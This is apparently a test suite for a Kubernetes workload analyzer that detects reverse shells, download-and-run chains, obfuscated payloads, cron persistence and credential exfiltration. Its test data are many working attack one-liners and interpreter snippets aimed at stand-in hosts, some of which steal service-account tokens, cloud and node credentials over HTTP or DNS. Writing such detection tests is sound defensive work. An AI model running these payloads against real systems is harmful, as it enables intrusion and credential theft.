import { describe, expect, it } from '@jest/globals';
import type { Execution, Flow } from './model.js';
import { buildWorkload } from './build.js';

/** The execution model of a Job's first container (or of every container, in order). */
function run(containers: Record<string, unknown>[], volumes: unknown[] = []): Execution[] {
  const workload = buildWorkload({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'j', namespace: 'ns' },
    spec: { template: { spec: { containers, volumes } } },
  });
  return workload.containers.map((container) => container.execution);
}

function sh(script: string, extra: Record<string, unknown> = {}): Execution {
  const [execution] = run([
    { name: 'c', image: 'alpine:3.20', command: ['/bin/sh', '-c', script], ...extra },
  ]);
  if (execution === undefined) throw new Error('no container');
  return execution;
}

const sources = (e: Execution, sink: Flow['sink']): string[] =>
  e.flows
    .filter((f) => f.sink === sink)
    .map((f) =>
      f.source.kind === 'network'
        ? f.source.url
        : f.source.kind === 'credential'
          ? f.source.credential
          : f.source.kind,
    );

const stdio = (e: Execution): number => e.actions.filter((a) => a.type === 'stdio').length;

describe('reverse shells: a shell whose stdin is a socket', () => {
  it.each([
    ['bash -i >& /dev/tcp/192.0.2.1/443 0>&1'],
    ['exec 5<>/dev/tcp/192.0.2.1/443; sh <&5 >&5 2>&5'],
    ['f() { bash -i > /dev/tcp/192.0.2.1/443 0<&1 2>&1; }; f'],
    ['nc -e /bin/sh 192.0.2.1 443'],
    ['ncat --sh-exec "sh -i" 192.0.2.1 443'],
    ['socat tcp:192.0.2.1:443 exec:"bash -li",pty,stderr'],
    ['su -s /bin/bash -c "bash -i >& /dev/tcp/192.0.2.1/443 0>&1" nobody'],
    ['bash <<< "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"'],
  ])('%s', (script) => {
    const e = sh(script);
    expect(stdio(e)).toBeGreaterThan(0);
    expect(sources(e, 'exec')).toContain('tcp://192.0.2.1:443');
  });

  it.each([
    [
      'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/f',
      'tcp://192.0.2.1:443',
    ],
    ['nc 192.0.2.1 443 | sh', 'tcp://192.0.2.1:443'],
    [
      'exec 3<>/dev/tcp/192.0.2.1/443; while read -r line <&3; do $line >&3 2>&1; done',
      'tcp://192.0.2.1:443',
    ],
    [
      'mkfifo /tmp/k; sh -i < /tmp/k 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/k',
      'tls://192.0.2.1:443',
    ],
  ])('commands read from a socket and run: %s', (script, url) => {
    expect(sources(sh(script), 'exec')).toContain(url);
  });

  it('follows nested heredocs, nested sh -c and eval to the payload', () => {
    const heredocs =
      "sh <<'A'\nsh <<'B'\nsh <<'C'\nsh <<'D'\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\nD\nC\nB\nA";
    expect(stdio(sh(heredocs))).toBe(1);
    let nested = 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1';
    for (let k = 0; k < 5; k++) nested = `sh -c ${JSON.stringify(nested).replace(/\$/g, '\\$')}`;
    expect(stdio(sh(nested))).toBe(1);
    expect(stdio(sh('eval "eval \\"eval \\\\\\"bash -i >& /dev/tcp/192.0.2.1/443 0>&1\\\\\\"\\""'))).toBe(1);
  });

  it('a wait-for loop on a socket is a connect, not a shell on it', () => {
    const e = sh(
      'until nc -z db 5432; do sleep 2; done; until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done',
    );
    expect(stdio(e)).toBe(0);
    expect(sources(e, 'exec')).toEqual([]);
    const connects = e.actions.filter((a) => a.type === 'connect');
    expect(connects.length).toBe(2);
    expect(connects.every((a) => a.loop)).toBe(true);
  });
});

describe('downloads that run', () => {
  it.each([
    ['curl -fsSL http://192.0.2.1/x.sh | sh'],
    ['(curl -s http://192.0.2.1/x.sh || wget -qO- http://192.0.2.1/x.sh) | bash'],
    ['bash <(curl -s http://192.0.2.1/x.sh)'],
    ['bash < <(curl -s http://192.0.2.1/x.sh)'],
    ['source <(curl -s http://192.0.2.1/x.sh)'],
    ['sh -c "$(wget -qO- http://192.0.2.1/x.sh)"'],
    ['busybox wget -O /tmp/x http://192.0.2.1/x.sh; chmod +x /tmp/x; /tmp/x'],
    ['cd /tmp && wget http://192.0.2.1/x.sh && sh ./x.sh'],
    ['curl -o /tmp/a http://192.0.2.1/x.sh; install -m 755 /tmp/a /usr/local/bin/agent; agent --daemon'],
    ['cd /opt; curl -s http://192.0.2.1/x.sh | tar xz; ./x.sh/bin/run'],
    ['c=cu; r=rl; $c$r -s http://192.0.2.1/x.sh | sh'],
    ["c'u'r\"l\" -s http://192.0.2.1/x.sh | b'as'h"],
    ['{curl,-s,http://192.0.2.1/x.sh}|bash'],
    ['curl${IFS}-s${IFS}http://192.0.2.1/x.sh|bash'],
    ['nohup setsid sh -c "curl -s http://192.0.2.1/x.sh | sh" &'],
    ['echo http://192.0.2.1/x.sh | xargs curl -s | sh'],
  ])('%s', (script) => {
    expect(sources(sh(script), 'exec').filter((s) => s.startsWith('http://192.0.2.1/'))).not.toEqual([]);
  });

  it('records the steps from the download to the run', () => {
    const e = sh(
      'curl -o /tmp/a http://192.0.2.1/x; mv /tmp/a /usr/bin/kworker; chmod 755 /usr/bin/kworker; kworker',
    );
    const flow = e.flows.find((f) => f.sink === 'exec');
    expect(flow?.steps).toEqual([
      'downloads http://192.0.2.1/x to /tmp/a',
      'moves /tmp/a as /usr/bin/kworker',
      'runs /usr/bin/kworker',
    ]);
  });

  it('a file an init container downloads runs in the main container', () => {
    const [, main] = run([
      { name: 'init', image: 'busybox', command: ['wget', '-O', '/work/a', 'http://192.0.2.1/a'] },
      { name: 'main', image: 'busybox', command: ['/work/a'] },
    ]);
    expect(main === undefined ? [] : sources(main, 'exec')).toEqual(['http://192.0.2.1/a']);
  });

  it('downloading to a file that is never run is no execution', () => {
    const e = sh('curl -o /tmp/report.csv https://example.com/r.csv && wc -l /tmp/report.csv');
    expect(e.flows.filter((f) => f.sink === 'exec')).toEqual([]);
    expect(e.actions.filter((a) => a.type === 'fetch').length).toBe(1);
  });
});

describe('decoded payloads', () => {
  const payload = Buffer.from('bash -i >& /dev/tcp/192.0.2.1/443 0>&1').toString('base64');
  it.each([
    [`echo ${payload} | base64 -d | bash`, 'base64'],
    [`eval "$(echo ${payload} | base64 --decode)"`, 'base64'],
    [`echo '${Array.from('curl -s http://192.0.2.1/x|sh').reverse().join('')}' | rev | sh`, 'reverse'],
    [`echo ${Buffer.from('bash -i >& /dev/tcp/192.0.2.1/443 0>&1').toString('hex')} | xxd -r -p | sh`, 'hex'],
  ])('%s', (script, encoding) => {
    const e = sh(script);
    expect(
      e.flows.some((f) => f.sink === 'exec' && f.source.kind === 'decoded' && f.source.encoding === encoding),
    ).toBe(true);
  });

  it('what was decoded is followed: the socket behind base64', () => {
    expect(stdio(sh(`echo ${payload} | base64 -d | bash`))).toBe(1);
  });

  it('a Secret decoded into a file is not execution', () => {
    const e = sh('echo "$CERT" | base64 -d > /etc/tls/tls.crt');
    expect(e.flows.filter((f) => f.sink === 'exec')).toEqual([]);
  });
});

describe('credentials', () => {
  it('the service-account token sent to a host', () => {
    const e = sh('curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://192.0.2.1/t');
    expect(e.flows).toEqual([
      expect.objectContaining({
        sink: 'send',
        destination: 'http://192.0.2.1/t',
        source: expect.objectContaining({ credential: 'service-account-token' }),
      }),
    ]);
  });

  it('the token read into a variable, then a header', () => {
    const e = sh(
      'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/namespaces/ns/pods',
    );
    expect(e.flows.map((f) => f.destination)).toEqual([
      'https://kubernetes.default.svc/api/v1/namespaces/ns/pods',
    ]);
    expect(e.actions.find((a) => a.type === 'kube')).toMatchObject({
      verb: 'list',
      resource: 'pods',
      namespace: 'ns',
    });
  });

  it('instance-metadata role credentials, in any spelling of the address', () => {
    const e = sh(
      'curl -s http://2852039166/latest/meta-data/iam/security-credentials/role | curl -d @- http://192.0.2.1/c',
    );
    expect(
      e.flows.some(
        (f) =>
          f.source.kind === 'credential' &&
          f.source.credential === 'cloud-credentials' &&
          f.destination === 'http://192.0.2.1/c',
      ),
    ).toBe(true);
  });

  it('a Secret in env reaches the log when printed', () => {
    const [e] = run([
      {
        name: 'c',
        image: 'alpine',
        command: ['sh', '-c', 'echo "password is $DB_PASSWORD"'],
        env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
      },
    ]);
    expect(e?.flows).toEqual([
      expect.objectContaining({ sink: 'log', source: expect.objectContaining({ credential: 'secret' }) }),
    ]);
  });

  it('a packed directory of a hostPath mount holds the node credentials behind it', () => {
    const [e] = run(
      [
        {
          name: 'c',
          image: 'alpine',
          command: ['sh', '-c', 'tar czf - -C /pki . | curl --data-binary @- http://192.0.2.1/p'],
          volumeMounts: [{ name: 'pki', mountPath: '/pki' }],
        },
      ],
      [{ name: 'pki', hostPath: { path: '/var/lib/kubelet/pki' } }],
    );
    expect(
      e?.flows.some((f) => f.source.kind === 'credential' && f.source.credential === 'node-credentials'),
    ).toBe(true);
  });
});

describe('the Kubernetes API', () => {
  it.each([
    [
      'kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=ns:sa',
      { verb: 'create', resource: 'clusterrolebindings', grants: ['cluster-admin'] },
    ],
    [
      'kubectl -n kube-system create token default',
      { verb: 'create', resource: 'serviceaccounts/token', namespace: 'kube-system' },
    ],
    ['kubectl get secrets -A -o yaml', { verb: 'get', resource: 'secrets', allNamespaces: true }],
    ['kubectl debug node/n1 -it --image=busybox', { verb: 'debug', resource: 'nodes' }],
    [
      'kubectl delete pods --field-selector=status.phase==Failed -n ns',
      { verb: 'delete', resource: 'pods', namespace: 'ns' },
    ],
  ])('%s', (script, expected) => {
    expect(sh(script).actions.find((a) => a.type === 'kube')).toMatchObject(expected);
  });

  it('reads what a manifest on stdin asks for', () => {
    const e = sh(
      'kubectl apply -f - <<EOF\nkind: DaemonSet\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n      - securityContext:\n          privileged: true\nEOF',
    );
    expect(e.actions.find((a) => a.type === 'kube')).toMatchObject({
      verb: 'apply',
      grants: ['privileged', 'hostPID', 'DaemonSet'],
    });
  });
});

describe('hostile input fails closed', () => {
  it.each([
    ['65 nested command substitutions', `${'$('.repeat(70)}id${')'.repeat(70)}`],
    ['50,000 no-ops before the payload', `${':;'.repeat(50_000)}bash -i >& /dev/tcp/192.0.2.1/443 0>&1`],
    ['a script over 1 MiB', `#${'x'.repeat(1024 * 1024 + 10)}\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1`],
    [
      '30 functions each calling the next',
      `f0() { id; }; ${Array.from({ length: 30 }, (_, k) => `f${k + 1}() { f${k}; };`).join(' ')} f30`,
    ],
  ])('%s: a limit is recorded', (_name, script) => {
    expect(sh(script).limits).not.toEqual([]);
  });

  it('a function that calls itself ends', () => {
    const e = sh('f() { f; curl -s http://192.0.2.1/x | sh; }; f');
    expect(sources(e, 'exec')).toEqual(['http://192.0.2.1/x']);
    expect(e.limits).toEqual([]);
  });

  it('everyday scripts reach no limit', () => {
    const e = sh(
      'set -euo pipefail; for db in a b c; do pg_dump "$db" | gzip > "/backup/$db-$(date +%F).sql.gz"; done; find /backup -mtime +7 -delete',
    );
    expect(e.limits).toEqual([]);
    expect(e.invocations.filter((i) => i.program === 'pg_dump').length).toBe(3);
  });
});

describe('loops', () => {
  it('a port that changes per pass is marked as varying; a fixed one is not', () => {
    const scan = sh('for p in $(seq 1 1024); do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null && echo $p; done');
    const wait = sh('until nc -z "$DB_HOST" 5432; do sleep 1; done');
    const varies = (e: Execution): boolean[] =>
      e.actions.flatMap((a) => (a.type === 'connect' ? [a.port.origins.some((o) => o.kind === 'loop')] : []));
    expect(varies(scan)).toEqual([true]);
    expect(varies(wait)).toEqual([false]);
  });

  it('a brace range too long to unroll stands for many hosts', () => {
    const e = sh('for h in 10.0.0.{1..254}; do nc -z -w1 $h 22; done');
    const connect = e.actions.find((a) => a.type === 'connect');
    expect(connect?.type === 'connect' && connect.host.origins.some((o) => o.kind === 'loop')).toBe(true);
  });
});

describe('what runs, through launchers and images', () => {
  it('unwraps launchers and keeps them', () => {
    const e = sh('nohup nice -n 19 timeout 60 chroot /host /usr/bin/id');
    expect(e.invocations.find((i) => i.program === 'id')?.launchers).toEqual([
      'nohup',
      'nice -n 19',
      'timeout 60',
      'chroot /host',
    ]);
  });

  it('args on an image with an entrypoint run under it', () => {
    const [e] = run([{ name: 'relay', image: 'alpine/socat', args: ['tcp:192.0.2.1:443', 'exec:sh'] }]);
    expect(e === undefined ? 0 : stdio(e)).toBe(1);
  });

  it('Kubernetes $(VAR) references in args are expanded', () => {
    const [e] = run([
      {
        name: 'c',
        image: 'alpine',
        command: ['sh', '-c', 'curl -s $(URL) | sh'],
        env: [{ name: 'URL', value: 'http://192.0.2.1/x' }],
      },
    ]);
    expect(e === undefined ? [] : sources(e, 'exec')).toEqual(['http://192.0.2.1/x']);
  });
});

describe('cron tables installed in the container run their entries', () => {
  it.each([
    ['echo "*/5 * * * * wget -qO- http://192.0.2.1/p | sh" > /etc/crontabs/root && crond -f'],
    ["printf '* * * * * curl -s http://192.0.2.1/p | sh\\n' > /var/spool/cron/crontabs/root; cron"],
    ['echo "* * * * * root curl -s http://192.0.2.1/p | bash" > /etc/cron.d/updater'],
    ['echo "@reboot curl -s http://192.0.2.1/p | sh" | crontab -'],
    ['echo "* * * * * curl -s http://192.0.2.1/p | sh" > /tmp/c; crontab -u root /tmp/c; crond -b'],
    ['echo "* * * * * curl -s http://192.0.2.1/p | sh" > /tmp/c; exec supercronic /tmp/c'],
  ])('%s', (script) => {
    expect(sources(sh(script), 'exec')).toContain('http://192.0.2.1/p');
  });

  it('a decoded table is code from a decoder; a plain one runs nothing foreign', () => {
    const decoded = sh('echo KiAqICogKiAqIGlkCg== | base64 -d | crontab -');
    expect(sources(decoded, 'exec')).toContain('decoded');
    const plain = sh('echo "0 * * * * /usr/sbin/logrotate /etc/logrotate.conf" | crontab - && cron -f');
    expect(plain.flows.filter((f) => f.sink === 'exec')).toEqual([]);
    expect(plain.invocations.map((i) => i.program)).toContain('logrotate');
  });

  it('listing or removing a table installs nothing', () => {
    expect(sh('curl -s http://192.0.2.1/p | crontab -l').flows.filter((f) => f.sink === 'exec')).toEqual([]);
  });
});

describe('content in a looked-up name is sent to that name’s domain', () => {
  const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  it.each([
    [`for c in $(base32 -w0 ${TOKEN} | tr -d = | fold -w 60); do nslookup $c.x.example; done`],
    [`dig +short $(xxd -p ${TOKEN} | head -c 60).x.example`],
    [`getent hosts $(cat ${TOKEN} | base32 | cut -c1-50).x.example`],
  ])('%s', (script) => {
    expect(sources(sh(script), 'send')).toContain('service-account-token');
  });

  it.each([
    [
      'python3',
      `import socket\nt=open("${TOKEN}").read()\nsocket.gethostbyname(t[:40].encode().hex()+".x.example")`,
    ],
    [
      'node',
      `const t=require("fs").readFileSync("${TOKEN}","utf8");require("dns").lookup(t.slice(0,40)+".x.example",()=>{})`,
    ],
  ])('%s resolver call', (interpreter, code) => {
    const [e] = run([
      { name: 'c', image: 'alpine', command: [interpreter, interpreter === 'node' ? '-e' : '-c', code] },
    ]);
    expect(e === undefined ? [] : sources(e, 'send')).toContain('service-account-token');
  });

  it('a file read through ~ is read from $HOME', () => {
    expect(sources(sh('cat ~/.aws/credentials | curl -d @- https://x.example/'), 'send')).toContain(
      'cloud-credentials',
    );
  });

  it('the whole environment is a secret source; one variable by name is not', () => {
    expect(sources(sh('env | curl -d @- https://x.example/'), 'send')).toContain('secret');
    expect(sources(sh('curl -d "$(cat /proc/self/environ)" https://x.example/'), 'send')).toContain('secret');
    expect(sources(sh('printenv HOME | curl -d @- https://x.example/'), 'send')).toEqual([]);
  });
});

describe('interpreters: fetched content reaches code through collections and callbacks', () => {
  const code = (interpreter: string, flag: string, text: string): Execution => {
    const [e] = run([{ name: 'c', image: 'alpine', command: [interpreter, flag, text] }]);
    if (e === undefined) throw new Error('no container');
    return e;
  };

  it.each([
    [
      'chunks pushed to an array, joined and run in a vm',
      'const h=require("http"),vm=require("vm");h.get("http://192.0.2.1/p",r=>{const c=[];r.on("data",x=>c.push(x));r.on("end",()=>vm.runInThisContext(Buffer.concat(c).toString()))})',
    ],
    [
      'a string grown in a data callback, run by new Function',
      'require("https").get("https://cdn.example/a.js",r=>{let b="";r.on("data",d=>b+=d);r.on("end",()=>new Function(b)())})',
    ],
  ])('node: %s', (_name, text) => {
    expect(sources(code('node', '-e', text), 'exec').length).toBe(1);
  });

  it('python: parts appended to a list and joined are the download', () => {
    const e = code(
      'python3',
      '-c',
      'import urllib.request as u\nparts=[]\nparts.append(u.urlopen("http://192.0.2.1/x").read())\nexec(b"".join(parts))',
    );
    expect(sources(e, 'exec')).toEqual(['http://192.0.2.1/x']);
  });

  it('a fetch with certificate checks off marks its content, in every spelling', () => {
    const insecure = (e: Execution) =>
      e.flows.some((f) => f.sink === 'exec' && f.source.kind === 'network' && f.source.insecure === true);
    expect(insecure(sh('curl -sk https://cdn.example/a | sh'))).toBe(true);
    expect(insecure(sh('wget --no-check-certificate -qO- https://cdn.example/a | sh'))).toBe(true);
    expect(
      insecure(
        code(
          'python3',
          '-c',
          'import urllib.request,ssl\nexec(urllib.request.urlopen("https://cdn.example/a", context=ssl._create_unverified_context()).read())',
        ),
      ),
    ).toBe(true);
    expect(
      insecure(
        code(
          'python3',
          '-c',
          'import requests\nexec(requests.get("https://cdn.example/a", verify=False).text)',
        ),
      ),
    ).toBe(true);
    expect(insecure(sh('curl -s https://cdn.example/a | sh'))).toBe(false);
  });
});

describe('download-and-run spellings that name the pipe or the file another way', () => {
  it.each([
    ['wget -qO- http://192.0.2.1/i | . /dev/stdin'],
    ['curl -s http://192.0.2.1/i | bash /dev/stdin'],
    ['curl -s http://192.0.2.1/i | python3 /dev/stdin'],
    ["wget -qO- http://192.0.2.1/i | awk '{system($0)}'"],
    ['cd /tmp && wget -q http://192.0.2.1/i && find /tmp -name "i*" -exec sh {} \\;'],
    [`env -S 'sh -c "curl -s http://192.0.2.1/i | sh"'`],
    [`env -S 'curl -s' http://192.0.2.1/i | sh`],
  ])('%s', (script) => {
    expect(sources(sh(script), 'exec')).toContain('http://192.0.2.1/i');
  });

  it('find -exec over files the pod did not fetch runs nothing foreign', () => {
    expect(sh('find /data -name "*.tmp" -mtime +7 -exec rm -f {} \\;').flows).toEqual([]);
  });

  it('awk over its own files is not reading stdin', () => {
    expect(sh("awk '{system($0)}' /etc/jobs.txt").flows).toEqual([]);
  });

  it.each([
    ['cp $(which nc) /tmp/kworker; /tmp/kworker 192.0.2.1 4444 -e /bin/sh'],
    ['ln -s "$(command -v bash)" /tmp/.k; /tmp/.k -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
    ['cp /usr/bin/ncat /usr/local/bin/sshd-helper && sshd-helper 192.0.2.1 4444 -e /bin/sh'],
  ])('a program copied under another name runs as itself: %s', (script) => {
    expect(stdio(sh(script))).toBeGreaterThan(0);
  });
});

describe('a downloaded file loaded as code by an interpreter ran from where it was dropped', () => {
  it.each([
    ['ruby -e "load \\"/tmp/a.x\\""'],
    ['php -r "include \\"/tmp/a.x\\";"'],
    ['node -e "require(\\"/tmp/a.x\\")"'],
    ['python3 -c "exec(open(\\"/tmp/a.x\\").read())"'],
    ['python3 -c "import runpy; runpy.run_path(\\"/tmp/a.x\\")"'],
  ])('curl -so /tmp/a.x …; %s', (load) => {
    const e = sh(`curl -so /tmp/a.x https://cdn.example/a.x; ${load}`);
    const flow = e.flows.find((f) => f.sink === 'exec');
    expect(flow?.source).toEqual({ kind: 'network', url: 'https://cdn.example/a.x' });
    expect(flow?.steps).toContain('runs /tmp/a.x');
  });

  it('a module by name is a library, not a file', () => {
    const [e] = run([
      { name: 'c', image: 'ruby', command: ['ruby', '-e', 'require "json"; puts JSON.generate({})'] },
    ]);
    expect(e?.flows).toEqual([]);
  });
});

describe('credentials leave in more spellings', () => {
  const code = (interpreter: string, flag: string, text: string): Execution => {
    const [e] = run([{ name: 'c', image: 'alpine', command: [interpreter, flag, text] }]);
    if (e === undefined) throw new Error('no container');
    return e;
  };

  it('the whole environment serialized by an interpreter is a secret source; one variable is not', () => {
    expect(
      sources(
        code(
          'python3',
          '-c',
          'import os,json,requests\nrequests.post("https://x.example/e", data=json.dumps(dict(os.environ)))',
        ),
        'send',
      ),
    ).toContain('secret');
    expect(
      sources(
        code('node', '-e', 'fetch("https://x.example/e",{method:"POST",body:JSON.stringify(process.env)})'),
        'send',
      ),
    ).toContain('secret');
    expect(
      sources(
        code(
          'python3',
          '-c',
          'import os,requests\nrequests.post("https://x.example/e", data=os.environ["REGION"])',
        ),
        'send',
      ),
    ).not.toContain('secret');
  });

  it('a home-relative credential path is root’s home, in the shell and in code', () => {
    expect(
      sources(
        code(
          'python3',
          '-c',
          'import os,requests\nrequests.post("https://x.example/", data=open(os.path.expanduser("~/.aws/credentials")).read())',
        ),
        'send',
      ),
    ).toContain('cloud-credentials');
  });

  it('a substring of the token in a looked-up name is the token sent', () => {
    const e = sh('T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); host ${T:0:60}.x.example');
    expect(sources(e, 'send')).toContain('service-account-token');
  });
});
